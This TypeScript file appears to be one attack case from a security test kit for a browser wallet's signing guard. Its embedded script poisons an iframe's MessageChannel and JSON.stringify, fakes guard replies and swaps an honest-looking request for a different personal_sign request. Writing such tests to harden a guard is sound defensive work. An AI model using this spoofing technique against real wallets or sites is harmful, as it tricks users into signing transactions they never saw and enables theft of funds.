import type { Attack } from './kit/attack.ts'
import { PROVIDER_KNOWN_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'frames',
  how: "Poisons the channel, the events and the JSON of a fresh frame's window, which the page loaded into it keeps, so that the guard starts there with the attacker's own.",
  script: `
    const posted = JSON.stringify(attack.posted(attack.sign))
    const poison = (view) => {
      const Channel = view.MessageChannel
      view.MessageChannel = function () {
        const channel = new Channel()
        const twin = new Channel()
        const hold = (params) => channel.port1.postMessage({
          type: 'request.hold', id: 'swapped', provider: {}, method: 'personal_sign', text: JSON.stringify(params), chainId: '0x7a69', account: attack.account,
        })
        channel.port1.onmessage = ({ data }) => {
          if (data.type === 'request.probe') channel.port1.postMessage({ type: 'request.context', id: data.id, chainId: '0x7a69', account: attack.account })
          if (data.type === 'request.forward') view.eval(\`postMessage(\${posted}, '*')\`)
        }
        twin.port2.onmessage = ({ data }) => {
          if (data.type === 'request.hold') twin.port2.postMessage({ type: 'request.forward', id: data.id, digest: '' })
          if (data.type === 'guard.ping') twin.port2.postMessage({ type: 'relay.pong' })
        }
        setTimeout(() => hold(attack.honest.params), 200)
        setTimeout(() => hold(attack.sign.params), 400)
        return { port1: twin.port1, port2: channel.port2 }
    }
    const { stringify } = view.JSON
    view.JSON.stringify = (value, ...rest) => (Array.isArray(value) && value[0] === attack.hex ? stringify(attack.honest.params) : stringify(value, ...rest))
    }
    const frame = attack.frame()
    for (const { contentWindow } of [frame, attack.frame({ src: attack.frameUrl })]) poison(contentWindow)
    frame.src = attack.frameUrl
    await attack.sleep(600)
    attack.tell('asked')
    await attack.sleep(4000)
    ethereum.request(attack.sign).catch(() => {})
  `,
  frame: 'ethereum.request(attack.sign)',
  async hands({ hear, continueHonest }) {
    await hear('asked')
    await continueHonest()
    await continueHonest()
  },
  open: { 'wallet-before': PROVIDER_KNOWN_FIRST },
} satisfies Attack
